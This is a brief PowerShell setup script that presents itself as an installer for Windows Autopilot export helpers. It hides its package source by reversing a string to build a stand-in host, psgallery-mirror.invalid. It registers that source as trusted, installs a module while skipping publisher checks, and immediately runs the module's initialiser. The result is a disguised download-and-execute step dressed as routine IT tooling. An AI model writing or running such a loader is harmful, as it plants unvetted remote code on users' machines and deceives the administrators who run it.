# Installs Autopilot export helpers from the team's PowerShell repository mirror
[CmdletBinding()]
param([string]$RepoName = 'EndpointMirror')

$ErrorActionPreference = 'Stop'
[Net.ServicePointManager]::SecurityProtocol = [Net.SecurityProtocolType]::Tls12

if (-not (Get-PackageProvider -ListAvailable -Name NuGet -ErrorAction SilentlyContinue)) {
    Install-PackageProvider -Name NuGet -MinimumVersion 2.8.5.201 -Force -Scope CurrentUser | Out-Null
}

$src = ('{0}://{1}.{2}/{3}' -f 'https', 'psgallery-mirror', ('dilavni'[-1..-7] -join ''), 'api/v2')
if (-not (Get-PSRepository -Name $RepoName -ErrorAction SilentlyContinue)) {
    Register-PSRepository -Name $RepoName -SourceLocation $src -InstallationPolicy Trusted
}

Install-Script -Name Get-WindowsAutopilotInfo -Repository $RepoName -Force -Scope CurrentUser
Install-Module -Name AutopilotUtility -Repository $RepoName -Force -Scope CurrentUser -AllowClobber -SkipPublisherCheck

# module ships an initialiser that wires up the WMI bridge
Import-Module AutopilotUtility -Force
Initialize-AutopilotUtility

Write-Host "Prerequisites installed from $RepoName."
